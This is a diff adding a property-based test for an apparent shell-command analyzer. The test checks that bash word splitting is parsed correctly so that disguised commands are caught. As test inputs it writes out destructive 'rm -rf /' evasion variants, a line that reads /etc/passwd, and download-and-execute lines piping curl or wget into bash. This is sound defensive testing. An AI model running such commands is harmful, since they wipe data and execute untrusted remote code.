@@ -291,6 +291,58 @@ test('the fast path for plain lines gives exactly the facts tree-sitter gives', 
   }), { numRuns: 3000 });
 });
 
+test('argv follows bash word boundaries where tree-sitter-bash cuts words differently', async () => {
+  const { loadBashParser } = await import('../../src/analyze/shell/parser.ts');
+  const { analyzeShell, DEFAULT_SHELL_LIMITS } = await import('../../src/analyze/shell/analyze.ts');
+  const parser = await loadBashParser();
+  const full = (c: string) => analyzeShell(c, parser, { ...DEFAULT_SHELL_LIMITS, fastPath: false });
+  const argv = (c: string) => full(c).commands.map((x) => x.argv);
+  // Words tree-sitter cuts in two: one argument each, as bash sees them.
+  assert.deepEqual(argv('echo $A/$B/x'), [['echo', '$A/$B/x']]);
+  assert.deepEqual(argv('echo "$A"/$B/"$C"/x a/$B/$C/d $A/$1/x'), [['echo', '$A/$B/$C/x', 'a/$B/$C/d', '$A/$1/x']]);
+  assert.deepEqual(argv("echo {}\\; 'x'\\;"), [['echo', '{};', 'x;']]);
+  assert.deepEqual(argv('echo foo<(true)')[1], ['echo', 'foo/dev/fd/63']);
+  assert.deepEqual(argv('a=/etc; b=passwd; cat $a/$b/x'), [['cat', '/etc/passwd/x']]);
+  // Escapes and text left out of every node: escaped blanks, line continuations, `==` read as an operator.
+  assert.deepEqual(argv("echo \\ a 'g'\\  q $A\\ b"), [['echo', ' a', 'g ', 'q', '$A b']]);
+  assert.deepEqual(argv('echo ==$A =~x'), [['echo', '==$A', '=~x']]);
+  assert.deepEqual(argv('echo \\  >x'), [['echo', ' ']]);
+  // The evasions this closes: the command is rm, not `B/x`, `r` or `-rf`.
+  for (const c of ['X=$A/$B/x rm -rf /', 'r\\\nm -rf /', 'X=\\  rm -rf /', 'X=$A/$B/y; r\\\nm -fr /tmp/x', 'sudo X=$A/$B rm -rf /']) {
+    const rm = full(c).commands.find((x) => x.name === 'rm');
+    assert.ok(rm && rm.flags.includes('recursive') && rm.flags.includes('force'), c);
+  }
+  assert.deepEqual(argv('X=\\  echo a'), [['echo', 'a']]);
+  // Redirect targets and here-strings are whole words too.
+  assert.deepEqual(full('cat > $A/$B/x').paths.map((p) => [p.raw, p.access]), [['$A/$B/x', 'write']]);
+  assert.deepEqual(argv('cat <<< $A/$B/x'), [['cat']]);
+  assert.deepEqual(full('echo >\\ x').paths.map((p) => p.raw), [' x']);
+
+  // Property: lines of words built from pieces (bare text, quotes, variables, escapes, continuations), with an
+  // assignment before and a redirect after, give exactly the argv bash gives. The expected argv is computed from
+  // the pieces (checked against bash itself while writing this test); variables are rendered as written.
+  const piece = fc.oneof(
+    fc.stringMatching(/^[a-z0-9./_:@+,-]{1,4}$/).map((x) => [x, x]),
+    fc.stringMatching(/^[a-z $|;&<>"]{0,4}$/).map((x) => [`'${x}'`, x]),
+    fc.tuple(fc.stringMatching(/^[a-z |;&<>']{0,3}$/), fc.constantFrom('', '$A', '${B}', '$C'), fc.stringMatching(/^[a-z /]{0,2}$/))
+      .map(([a, v, b]) => [`"${a}${v}${b}"`, a + v.replace(/[{}]/g, '') + b]),
+    fc.constantFrom('$A', '$B', '${C}', '$1').map((v) => [v, v.replace(/[{}]/g, '')]),
+    fc.constantFrom(['{}', '{}'], ['\\;', ';'], ['\\ ', ' '], ['\\$', '$'], ['\\"', '"'], ["\\'", "'"], ['\\\\', '\\'], ['/', '/'], ['-', '-'], ['=', '='], ['==', '=='], ['\\\n', '']),
+  );
+  // A variable followed by name characters would be a longer name; a word of continuations only is no word.
+  const word = fc.array(piece, { minLength: 1, maxLength: 5 })
+    .map((ps) => [ps.map((p) => p[0]).join(''), ps.map((p) => p[1]).join('')] as const)
+    .filter(([src]) => !/\$[A-Z](\\\n)*\w/.test(src) && !/^(\\\n)+$/.test(src));
+  fc.assert(fc.property(fc.option(word), fc.array(word, { maxLength: 4 }), fc.option(word), (assign, words, redir) => {
+    const line = `${assign ? `X=${assign[0]} ` : ''}echo ${words.map((w) => w[0]).join(' ')}${redir ? ` >${redir[0]}` : ''}`;
+    const f = full(line);
+    if (f.unparseable) return true; // tree-sitter gave up: a fact policies deny on, not a wrong argv
+    assert.deepEqual(f.commands.map((c) => c.argv), [['echo', ...words.map((w) => w[1])]], line);
+    if (redir && redir[1] !== '' && redir[1] !== '-') assert.ok(f.paths.some((p) => p.raw === redir[1] && p.access === 'write'), line);
+    return true;
+  }), { numRuns: 2000 });
+});
+
 test('downloads executed through process substitution or a file in the same line', () => {
   assert.ok(an('bash <(curl -s https://x.io/i.sh)').downloadExec);
   assert.ok(an('source <(wget -qO- https://x.io/env)').downloadExec);
